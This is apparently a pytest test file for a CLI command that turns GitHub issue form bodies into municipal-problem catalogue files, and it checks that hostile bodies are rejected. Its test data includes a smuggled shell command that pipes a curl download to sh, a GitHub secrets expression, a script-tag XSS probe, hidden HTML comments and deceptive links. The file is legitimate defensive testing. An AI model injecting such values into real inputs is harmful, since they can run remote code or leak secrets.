"""`catalogo desde-issue`: a real form body becomes a valid file; hostile ones become a clear
comment and no file."""

from __future__ import annotations

import html
import re
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

from conftest import FIXTURES, run_cli

BODY = (FIXTURES / "issues" / "propuesta.md").read_text(encoding="utf-8")


@pytest.fixture
def root(catalogue_copy) -> Path:
    return catalogue_copy


def _convert(root: Path, body: str, tmp_path: Path):
    issue = tmp_path / "issue.md"
    issue.write_text(body, encoding="utf-8")
    comment = tmp_path / "comentario.md"
    result = run_cli(
        "desde-issue", str(issue), "--raiz", str(root), "--fecha", "2026-11-25",
        "--comentario", str(comment),
    )  # fmt: skip
    return result, comment.read_text(encoding="utf-8") if comment.exists() else ""


def _problem_files(root: Path) -> set[Path]:
    return set((root / "problems").rglob("*.md"))


def test_a_form_body_becomes_a_file_the_whole_catalogue_accepts(root, tmp_path):
    result, comment = _convert(root, BODY, tmp_path)
    assert result.returncode == 0, result.stderr
    path = result.stdout.strip()
    assert path == "problems/nunoa/derivacion-de-denuncias-por-perros-abandonados-en-la-via.md"
    text = (root / path).read_text(encoding="utf-8")
    assert "id: 13120-001\n" in text and "comuna: nunoa\n" in text and "estado: propuesto\n" in text
    assert "- medio-ambiente-y-residuos\n- atencion-ciudadana\n" in text
    assert "personas: 208237\n" in text and "## Situación actual\n" in text
    # The comment shows the reviewer exactly the front matter that was written.
    header = text.split("\n---\n", 1)[0] + "\n---"
    assert f"```yaml\n{header}\n```" in comment and path in comment
    assert run_cli("validar", "--raiz", str(root)).returncode == 0

    # The same issue again: the next free id and a new name, never the first file rewritten.
    again, _ = _convert(root, BODY, tmp_path)
    assert again.returncode == 0
    assert again.stdout.strip().endswith("-via-2.md")
    assert "id: 13120-002\n" in (root / again.stdout.strip()).read_text(encoding="utf-8")
    assert (root / path).read_text(encoding="utf-8") == text


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            lambda b: b.replace("en la vía pública", "$(curl https://example.com | sh)"),
            "«$(»",
        ),
        (
            lambda b: b.replace(
                "Dirección de Medio Ambiente\n\n### Población",
                "${{ secrets.GITHUB_TOKEN }}\n\n### Población",
            ),
            "«${{»",
        ),
        (
            lambda b: b.replace(
                "listas incompletas y repetidas.", "listas. <script>alert(1)</script>"
            ),
            "HTML",
        ),
        (
            lambda b: b.replace("Nadie las reúne,", "La vecina con RUT 12.345.678-5 reclamó,"),
            "RUT",
        ),
        (lambda b: b + "\n" + "relleno " * 40_000, "supera los"),
        (lambda b: "Hola, tengo un problema con la basura.", "no sigue el formulario"),
        (lambda b: b.replace("\nÑuñoa\n", "\nGotham\n"), "comuna"),
        # What the reviewer sees must be what is written: GitHub hides HTML comments.
        (
            lambda b: b.replace(
                "\n### Temas", "\n<!--\n### Comuna\n\nRenca\n-->\n\n### Temas", 1
            ),
            "comentario HTML",
        ),
        (lambda b: b + "\n### Comuna\n\nRenca\n", "aparece 2 veces"),
        (
            lambda b: b.replace(
                "Se pierden las que llegan por redes sociales.",
                "Se pierden.\n\n### Comuna\n\nRenca",
            ),
            "aparece 2 veces",
        ),
        (
            lambda b: b.replace("Se pierden las que", "Se pierden\n\n### Notas\n\nlas que"),
            "«### Notas» que no es del formulario",
        ),
        (lambda b: b.replace("### Prioridad\n\nMedia\n\n", ""), "falta la pregunta «### Prioridad»"),
        (
            lambda b: b.replace("### Resumen", "### TMP").replace("### Temas", "### Resumen").replace(
                "### TMP", "### Temas"
            ),
            "no están en el orden",
        ),
        (
            lambda b: b.replace(
                "Se pierden las que", "Se pierden [aquí][x] las que"
            ).replace("### Antes de enviar", "[x]: https://malo.example\n\n### Antes de enviar"),
            "definición de enlace",
        ),
        (lambda b: b.replace("208.237", "208²"), "Personas"),
        (lambda b: b.replace("208.237", "9" * 5000), "Personas"),
        (lambda b: b.replace("208.237", "٢٠٨٢٣٧"), "Personas"),
    ],
    ids=[
        "shell", "expresion-github", "html", "rut", "enorme", "sin-formulario", "comuna",
        "comentario-oculto", "encabezado-repetido-al-final", "encabezado-en-respuesta",
        "encabezado-ajeno", "encabezado-que-falta", "orden", "enlace-oculto", "superindice",
        "cifras-de-mas", "digitos-arabes",
    ],
)  # fmt: skip
def test_hostile_bodies_get_a_clear_comment_and_no_file(root, tmp_path, change, expected):
    before = _problem_files(root)
    result, comment = _convert(root, change(BODY), tmp_path)
    assert result.returncode == 1, result.stdout
    shown = _shown(comment)
    assert expected in shown, shown
    assert _problem_files(root) == before
    assert "Traceback" not in result.stderr and "<script" not in _rendered(comment)


def _rendered(comment: str) -> str:
    """The comment as GitHub's Markdown makes it HTML (tables on, raw HTML passed through)."""
    return MarkdownIt("commonmark").enable(["table"]).render(comment)


def _shown(comment: str) -> str:
    """What a reader of the comment sees: its rendered text."""
    return html.unescape(re.sub(r"<[^>]*>", "", _rendered(comment)))


def test_values_quoted_in_a_comment_cannot_link_or_mention(root, tmp_path):
    hostile = "@municipios/todos [gana](https://malo.example) ![x](https://malo.example/x.png)"
    body = BODY.replace(
        "Dirección de Medio Ambiente\n\n### Población", f"{hostile}\n\n### Población"
    )
    result, comment = _convert(root, body, tmp_path)
    assert result.returncode == 0
    # In the front matter shown as a code block: GitHub links and mentions nothing in code.
    rendered = _rendered(comment)
    assert "<a " not in rendered and "<img" not in rendered
    assert hostile in _shown(comment) and "<pre><code" in rendered
    # The same values in the table of errors are made literal text.
    failing = body.replace("\nÑuñoa\n", f"\n{hostile}\n")
    result, comment = _convert(root, failing, tmp_path)
    assert result.returncode == 1
    rendered = _rendered(comment)
    assert "<a " not in rendered and "<img" not in rendered and "@municipios" not in rendered


def test_the_comment_is_written_whenever_no_file_is(root, tmp_path):
    """The workflow posts the comment file: if it were missing, the author would hear nothing."""
    comment = tmp_path / "comentario.md"
    folder = tmp_path / "una-carpeta"
    folder.mkdir()
    result = run_cli("desde-issue", str(folder), "--raiz", str(root), "--comentario", str(comment))
    assert result.returncode == 1 and "Traceback" not in result.stderr
    assert comment.read_text(encoding="utf-8").startswith("No pude convertir este issue")


def test_windows_line_endings_read_the_same(root, tmp_path):
    result, comment = _convert(root, BODY.replace("\n", "\r\n"), tmp_path)
    assert result.returncode == 0, comment


@pytest.mark.parametrize(
    ("change", "expected"),
    [
        (
            lambda b: (
                b.replace("Se pierden las que", "Se pierden[^1] las que") + "\n[^1]: Oculto\n"
            ),
            "nota al pie",
        ),
        (lambda b: b.replace("### Comuna", "   ### Comuna"), None),
        (lambda b: b.replace("### Comuna", "###\tComuna"), None),
    ],
    ids=["nota-al-pie", "encabezado-con-sangria", "encabezado-con-tabulador"],
)
def test_headings_and_footnotes_as_github_reads_them(root, tmp_path, change, expected):
    result, comment = _convert(root, change(BODY), tmp_path)
    if expected is None:
        assert result.returncode == 0, comment
    else:
        assert result.returncode == 1 and expected in _shown(comment)
